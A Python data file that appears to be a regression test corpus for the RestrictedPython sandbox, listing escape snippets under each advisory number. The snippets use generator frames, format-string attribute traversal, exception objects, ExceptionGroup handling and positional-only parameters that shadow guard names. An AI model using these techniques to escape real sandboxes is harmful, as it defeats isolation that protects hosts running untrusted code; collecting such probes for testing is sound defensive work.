# ruff: noqa: E501 - programs, each on its line
"""Every advisory published for RestrictedPython, by its number, each in the forms it can take."""

ATTACKS = {
    "CVE-2023-37271": (
        "q = (q.gi_frame.f_back.f_back for _ in [1])\n[*q] and 'ESCAPED'",
        "def leak():\n    yield g.gi_frame.f_back.f_builtins\ng = leak()\n[x for x in g][0] and 'ESCAPED'",
        "def leak():\n    return (yield from [x.gi_frame for x in [g]])\ng = leak()\nnext(g) and 'ESCAPED'",
    ),
    "CVE-2023-41039": (
        "class A:\n    def __init__(self):\n        pass\n'ESCAPED' if 'builtins' in '{0.__init__.__globals__}'.format(A()) else 0",
        "'ESCAPED' if 'class' in '{x.__class__}'.format_map({'x': 0}) else 0",
        "'ESCAPED' if 'class' in str.format_map('{x.__class__}', {'x': 0}) else 0",
        "import string\n'ESCAPED' if 'class' in string.Formatter().format('{0.__class__}', 0) else 0",
    ),
    "CVE-2024-47532": (
        "import string\ntry:\n    string.nope\nexcept AttributeError as e:\n    r = e.obj.Formatter and 'ESCAPED'\nr",
        "try:\n    ''.nope\nexcept AttributeError as e:\n    r = 'ESCAPED' if e.obj == '' else 0\nr",
        "import string\nstring.__loader__ and 'ESCAPED'",
    ),
    "CVE-2025-22153": (
        "class G(ExceptionGroup):\n    pass\ntry:\n    raise G('x', [ValueError(1)])\nexcept* ValueError as e:\n    r = 'ESCAPED'\nr",
        "class G(ExceptionGroup):\n    def split(self, c):\n        return (None, None)\ntry:\n    try:\n        raise G('x', [ValueError(1)])\n    except* ValueError:\n        pass\nexcept BaseException:\n    pass\nr = 'ESCAPED'\nr",
        "e = ExceptionGroup('x', [ValueError(1)])\ne.split(ValueError) and 'ESCAPED'",
    ),
    "CVE-2026-55830": (
        "def f(_getattr_, /):\n    return (lambda: 0).__globals__ and 'ESCAPED'\nf(getattr)",
        "def f(_write_=lambda x: x, /):\n    import math\n    math.pi = 3\n    return 'ESCAPED'\nf()",
        "def f(_print_, /):\n    return 'ESCAPED'\nf(1)",
        "(lambda _getitem_, /: 'ESCAPED')(1)",
        "(lambda _name_, /: 'ESCAPED')(1)",
    ),
    "CVE-2026-76825": (
        "import string\ngetattr(string, 'Formatter')().get_field('0.__class__', (1,), {}) and 'ESCAPED'",
        "import string\ngetattr(string.Formatter, 'get_field')(string.Formatter(), '0.__class__', (1,), {}) and 'ESCAPED'",
        "import string\ngetattr(string.Formatter(), 'vformat')('{0.__class__}', (1,), {}) and 'ESCAPED'",
    ),
}
